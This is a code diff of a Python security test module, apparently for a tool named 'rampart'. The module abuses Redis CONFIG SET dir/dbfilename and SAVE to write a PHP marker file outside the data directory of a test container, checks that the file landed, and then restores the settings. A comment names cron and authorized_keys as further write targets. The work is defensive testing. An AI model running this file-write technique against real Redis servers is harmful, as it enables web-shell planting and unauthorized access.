@@ -16,8 +16,6 @@ if TYPE_CHECKING:
     from .model import Outcome, Target
     from .resp import Connection
 
-# Debian's unit leaves few places writable; where an old unit runs, cron and authorized_keys are next.
-ELSEWHERE = "/var/log/redis"
 FILE = "rampart-attack.php"
 PAYLOAD = "<?php echo 'rampart attack 3'; ?>"
 NO_MODULE = "/usr/lib/rampart-no-such-module.so"
@@ -25,23 +23,25 @@ NO_MODULE = "/usr/lib/rampart-no-such-module.so"
 
 def write_file(target: Target) -> Outcome:
     """CONFIG SET dir and dbfilename, then save: a file of ours appears outside the data directory."""
+    product = target.product
 
     def probe(connection: Connection) -> str:
-        connection.ask("CONFIG", "SET", "dir", ELSEWHERE)
+        # Debian's unit leaves few places writable; where an old unit runs, cron and authorized_keys are next.
+        connection.ask("CONFIG", "SET", "dir", product.log_dir)
         try:
             connection.ask("CONFIG", "SET", "dbfilename", FILE)
             connection.ask("SET", "app:attack:payload", PAYLOAD)
             connection.ask("SAVE")
             return _found(target)
         finally:
-            connection.call("CONFIG", "SET", "dir", "/var/lib/redis", "dbfilename", "dump.rdb")
+            connection.call("CONFIG", "SET", "dir", product.data_dir, "dbfilename", "dump.rdb")
             connection.call("DEL", "app:attack:payload")
 
     return attempt(everyone(target), probe)
 
 
 def _found(target: Target) -> str:
-    path = f"{ELSEWHERE}/{FILE}"
+    path = f"{target.product.log_dir}/{FILE}"
     # grep: status 0 only when the payload stands in the file.
     if inside(target.container, f"grep -qaF 'rampart attack 3' {path}", check=False).returncode != 0:
         raise CannotRunError(f"SAVE was accepted, but {path} does not hold the payload")
